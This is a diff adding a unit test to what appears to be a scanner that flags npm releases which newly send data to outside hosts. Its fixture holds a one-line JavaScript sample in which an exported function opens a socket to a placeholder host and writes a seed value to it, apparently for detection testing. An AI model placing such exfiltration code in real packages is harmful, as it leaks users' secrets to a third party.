@@ -94,3 +94,9 @@ def test_the_projects_own_host_stays_quiet_unless_only_the_new_release_says_that
 
 def test_without_a_baseline_it_does_not_apply() -> None:
     assert RULE not in npm({"index.js": SENDS}).inspection.ran
+
+
+def test_a_host_that_a_socket_is_given_counts() -> None:
+    after = "const net = require('net');\nexports.keys = seed => { net.connect(443, 'sink.pratique.invalid').write(seed); return seed; };\n"
+    found = of_rule(npm({"index.js": after}, {"index.js": CALM}), RULE)
+    assert ["sink.pratique.invalid"] == [finding.evidence for finding in found]
